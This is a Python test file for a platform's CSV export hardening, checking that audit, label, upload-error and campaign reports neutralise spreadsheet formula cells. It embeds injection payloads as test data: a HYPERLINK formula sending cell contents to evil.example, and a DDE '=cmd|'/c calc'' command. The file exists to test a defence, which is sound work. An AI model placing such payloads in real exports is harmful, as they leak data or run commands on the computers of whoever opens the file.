"""Finding 5 (issue 16): every CSV export neutralises cells a spreadsheet would run as a
formula (the audit log, labels, upload error reports, campaign reports)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from cipherseg.platform.csv_export import FORMULA_STARTS, csv_text, safe_cell
from cipherseg.platform.models import Role
from hardening_support import released_segmentation

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@given(st.lists(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.none()),
                         max_size=5), max_size=8))
def test_no_text_cell_starts_a_formula(rows) -> None:  # type: ignore[no-untyped-def]
    text = csv_text(rows)
    parsed = _cells(text)
    assert len(rows) == len(parsed)
    for row, back in zip(rows, parsed, strict=True):
        for value, cell in zip(row, back, strict=True):
            if isinstance(value, str):
                assert not cell.startswith(FORMULA_STARTS)
                assert cell in (value, "'" + value)
            elif isinstance(value, int):
                assert cell == str(value)  # numbers stay numbers (-5 is not text)


def test_safe_cell_examples() -> None:
    for start in FORMULA_STARTS:
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("plain") == "plain"
    assert safe_cell(-3) == -3


def test_audit_export_neutralises_a_typed_user_name(splatform) -> None:  # type: ignore[no-untyped-def]
    anon = splatform.client()
    page = anon.get("/login")
    import re

    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    anon.tc.post("/login", data={"username": PAYLOAD, "password": "x" * 12,
                                 "csrf_token": token})
    admin = splatform.as_role(Role.ADMIN)
    r = admin.get("/admin/audit.csv")
    assert r.status_code == 200
    _assert_no_formula(r.text)  # the typed name cannot run ...
    assert ["'" + PAYLOAD[:64]] == [c for row in _cells(r.text) for c in row
                                    if "HYPERLINK" in c]  # ... and is there, as text


def test_error_report_neutralises_cells(splatform) -> None:  # type: ignore[no-untyped-def]
    owner = splatform.as_role(Role.OWNER)
    body = "customer_id,phone,consent\nC1,13800138000,=1+2\nC2,13800138001,@SUM(A1)\n"
    r = owner.upload("customers", "c.csv", body.encode())
    assert r.status_code == 303
    splatform.run_jobs()
    number = r.headers["location"].rsplit("/", 1)[-1]
    report = owner.get(f"/owner/uploads/{number}/errors.csv")
    assert report.status_code == 200
    assert "'=1+2" in report.text and "'@sum(a1)" in report.text
    _assert_no_formula(report.text)


FORMULA_SEGMENT = "=cmd|'/c calc'!A0"


def test_labels_export_goes_through_the_writer(splatform) -> None:  # type: ignore[no-untyped-def]
    _job_id, number = released_segmentation(splatform, names=(FORMULA_SEGMENT, "+Regular"))
    owner = splatform.as_role(Role.OWNER)
    r = owner.get(f"/owner/jobs/{number}/labels.csv")
    assert r.status_code == 200
    assert "'=cmd" in r.text and "'+Regular" in r.text
    _assert_no_formula(r.text)


def test_campaign_reports_go_through_the_writer(splatform) -> None:  # type: ignore[no-untyped-def]
    from cipherseg.platform.campaigns.context import configure
    from cipherseg.platform.campaigns.settings import CampaignSettings

    configure(splatform.ctx, CampaignSettings(quiet_hours="off", sms_rate=1000.0,
                                              campaign_holdout=0.0))
    job_id, _number = released_segmentation(splatform, names=(FORMULA_SEGMENT, "@Regular"))
    shop = splatform.as_role(Role.MERCHANT)
    r = shop.post("/merchant/campaigns", {
        "job_id": str(job_id), "name": "-Spring", "shop_name": "Joy Mall",
        "pos": ["0", "1"], "use": ["0", "1"],
        "tpl": ["Hi {{ first_name }} {{ opt_out }}", "Hello {{ opt_out }}"]})
    assert r.status_code == 303, r.text[:500]
    cid = int(r.headers["location"].split("?")[0].rsplit("/", 1)[1])
    assert shop.post(f"/merchant/campaigns/{cid}/send", {"confirm": "yes"}).status_code == 303
    splatform.run_jobs()
    for client, url in ((shop, f"/merchant/campaigns/{cid}/report.csv"),
                        (splatform.as_role(Role.OPERATOR),
                         f"/operator/campaigns/{cid}/report.csv"),
                        (splatform.as_role(Role.OWNER), f"/owner/campaigns/{cid}/report.csv")):
        r = client.get(url)
        assert r.status_code == 200, url
        assert "'=cmd" in r.text and "'@Regular" in r.text, url
        _assert_no_formula(r.text)
